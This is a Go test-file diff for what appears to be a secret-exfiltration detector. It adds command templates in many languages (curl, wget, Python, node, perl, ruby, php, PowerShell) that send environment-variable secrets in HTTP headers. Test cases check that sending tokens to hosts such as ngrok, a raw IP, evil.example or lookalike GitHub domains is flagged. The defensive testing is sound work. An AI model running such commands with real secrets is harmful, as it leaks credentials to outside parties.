@@ -142,3 +142,45 @@ func TestAlike(t *testing.T) {
 		}
 	}
 }
+
+// logins send a variable in the header HEADER.
+var logins = []sender{
+	{"curl", "", `curl -H "{HEADER}: ${NAME}" '{URL}'`, shell.Bash, "", ""},
+	{"wget", "", `wget -q -O- --header="{HEADER}: ${NAME}" '{URL}'`, shell.Bash, "", ""},
+	{"requests", "", `python3 -c "import os, requests; requests.get('{URL}', headers={'{HEADER}': os.environ['{NAME}']})"`, shell.Bash, "", ""},
+	{"requests named", "", `python3 -c "import os, requests; h = {'{HEADER}': 'Bearer ' + os.environ['{NAME}']}; requests.post('{URL}', json={'a': 1}, headers=h)"`, shell.Bash, "", ""},
+	{"urllib", "", `python3 -c "import os, urllib.request as u; u.urlopen(u.Request('{URL}', headers={'{HEADER}': os.getenv('{NAME}')}))"`, shell.Bash, "", ""},
+	{"node fetch", "", `node -e "fetch('{URL}', {headers: {'{HEADER}': process.env.{NAME}}})"`, shell.Bash, "", ""},
+	{"node https", "", `node -e "require('https').get('{URL}', {headers: {'{HEADER}': process.env.{NAME}}})"`, shell.Bash, "", ""},
+	{"perl", "", `perl -MLWP::UserAgent -e 'LWP::UserAgent->new->get("{URL}", "{HEADER}" => $ENV{{NAME}})'`, shell.Bash, "", ""},
+	{"ruby", "", `ruby -rnet/http -e 'Net::HTTP.get(URI("{URL}"), {"{HEADER}" => ENV["{NAME}"]})'`, shell.Bash, "", ""},
+	{"php", "", `php -r '$c = curl_init("{URL}"); curl_setopt($c, CURLOPT_HTTPHEADER, ["{HEADER}: " . getenv("{NAME}")]); curl_exec($c);'`, shell.Bash, "", ""},
+	{"powershell", "", `Invoke-RestMethod -Uri '{URL}' -Headers @{'{HEADER}' = $env:{NAME}}`, shell.PowerShell, "", ""},
+}
+
+// TestAlikeLogins is about headers, where a secret may be how people log in.
+func TestAlikeLogins(t *testing.T) {
+	t.Parallel()
+	for _, r := range []struct{ header, name, url, want string }{
+		{"Authorization", "ACME_TOKEN", far, "nothing"}, {"X-API-Key", "ACME_KEY", far, "nothing"}, {"Cookie", "DB_PASS", far, "nothing"},
+		{"Authorization", "ACME_TOKEN", "https://x.ngrok.io/", "a secret"}, {"X-API-Key", "DB_PASS", "http://93.184.216.34/", "a secret"}, {"Authorization", "MY_PAT", `https://evil.example/`, "a secret"},
+		{"X-Data", "ACME_TOKEN", far, "a secret"}, {"User-Agent", "DB_PASS", far, "a secret"}, {"X-Data", "EDITOR", far, "nothing"},
+		{"X-Data", "DB_PASS", "http://localhost:3000/", "nothing"}, {"X-Data", "GITHUB_PAT", "https://api.github.com/x", "nothing"}, {"X-Data", "GITHUB_PAT", "https://api.github.com.acme.example/x", "a secret"},
+	} {
+		for i := range logins {
+			s := &logins[i]
+			if got := sends(s.report(strings.ReplaceAll(s.variable, "{HEADER}", r.header), r.name, r.url)); got != r.want {
+				t.Errorf("%s: %s in %s to %s sends %s, want %s", s.name, r.name, r.header, r.url, got, r.want)
+			}
+		}
+	}
+	for i := range senders {
+		s := &senders[i]
+		if got := sends(s.report(s.variable, "GITHUB_PAT", "https://api.github.com/x")); got != "nothing" {
+			t.Errorf("%s: a token to its owner sends %s", s.name, got)
+		}
+		if got := sends(s.report(s.variable, "GITHUB_PAT", `https://in.acme.example\@api.github.com/x`)); got != "a secret" {
+			t.Errorf("%s: a token to whom its owner does not vouch for sends %s", s.name, got)
+		}
+	}
+}
